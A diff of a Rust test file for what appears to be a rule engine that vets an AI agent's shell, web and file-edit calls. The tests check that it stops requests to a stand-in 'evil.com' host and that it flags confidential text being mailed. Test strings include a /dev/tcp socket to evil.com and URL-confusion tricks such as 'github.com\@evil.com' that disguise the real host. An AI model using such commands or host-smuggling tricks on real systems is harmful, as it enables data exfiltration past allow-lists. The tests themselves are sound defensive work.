@@ -210,6 +210,7 @@ fn a_request_is_judged_by_the_host_to_which_it_goes() {
             "git -C x fetch ssh://git@evil.com/a",
             "python x.py --to https://evil.com",
             "exec 3<>/dev/tcp/evil.com/80",
+            "x --to=é://,https://evil.com",
             "Invoke-WebRequest -Uri https://evil.com",
         ],
         &[
@@ -241,6 +242,10 @@ fn an_unknown_host_is_no_exception() {
         &[
             "curl https://github.com https://x.com",
             "curl \"https://$HOST\"",
+            "curl \"https://github.com:$PORT/\"",
+            "curl \"https://$USER@github.com\"",
+            "curl 'https://{github.com,evil.com}/'",
+            "ssh $A@github.com",
             "git push",
             "git push origin",
             "curl -K file",
@@ -249,9 +254,19 @@ fn an_unknown_host_is_no_exception() {
         &["curl https://api.github.com/x", "ls", "git status", "git clone ../x", "http GET https://github.com a=b"],
     );
     assert_eq!(question(&shell("curl $URL")).question, "Ask ??");
-    assert!(is_stopped(&fetch("https://github.com\\@evil.com")));
+    for url in ["https://github.com\\@evil.com", "https://evil.com;.github.com/"] {
+        assert!(is_stopped(&fetch(url)), "{url}");
+    }
     assert!(is_stopped(&mcp("web", "get", json!({ "url": "https://x.com" }))));
     assert!(!is_stopped(&mcp("web", "get", json!({ "url": "https://github.com" }))));
+}
+
+#[test]
+fn a_condition_about_a_host_that_is_not_clear_stops() {
+    rules(
+        "[[rule]]\nid = \"evil\"\non = \"web\"\nwhen = 'host == \"evil.com\"'\nreject = \"no\"\nstops = [\"evil.com\"]\npasses = [\"x.com\"]",
+    );
+    stops_and_passes(&["curl 'https://a\\@b'", "curl https://$X/a"], &["curl https://a/@b", "git push"]);
 }
 
 #[test]
@@ -312,4 +327,23 @@ fn a_tool_is_judged_by_its_name_in_any_case() {
     );
     assert_eq!(refusal(&call("cronDelete", json!({}), Action::Other(String::new()))).reason, "no cronDelete");
     assert!(is_stopped(&call("Task", json!({}), Action::SpawnAgent("now deploy".into()))));
+}
+
+#[test]
+fn a_rule_can_be_about_the_text_that_a_call_writes_or_sends() {
+    rules(
+        "[[rule]]\nid = \"r\"\non = \"write\"\npath = \"*.ts\"\ntext = [\"console.log\", \"debugger\"]\nreject = \"no\"\n\
+         stops = [{ path = \"a.ts\", text = \"x; debugger\" }]\npasses = [\"a.ts\", { path = \"a.js\", text = \"debugger\" }]\n\
+         [[rule]]\nid = \"m\"\non = \"mcp\"\nwhen = 'text.matches(\"(?i)confidential\")'\nask = \"Send it?\"\n\
+         stops = [{ tool = \"send\", text = \"Confidential\" }]\npasses = [\"mail/send\"]\n",
+    );
+    let edit = |old: &str, new: &str| {
+        let action = Action::WriteFiles(vec!["src/a.ts".into()]);
+        call("Edit", json!({ "file_path": "src/a.ts", "old_string": old, "new_string": new }), action)
+    };
+    assert!(is_stopped(&edit("a", "console.log(1)")));
+    assert!(!is_stopped(&edit("console.log(1)", "a")));
+    stops_and_passes(&["echo 'console.log(1)' > src/a.ts"], &["echo x > src/a.ts", "echo debugger > a.js"]);
+    assert!(is_stopped(&mcp("mail", "send", json!({ "body": "strictly CONFIDENTIAL" }))));
+    assert!(!is_stopped(&mcp("mail", "send", json!({ "body": "hello" }))));
 }
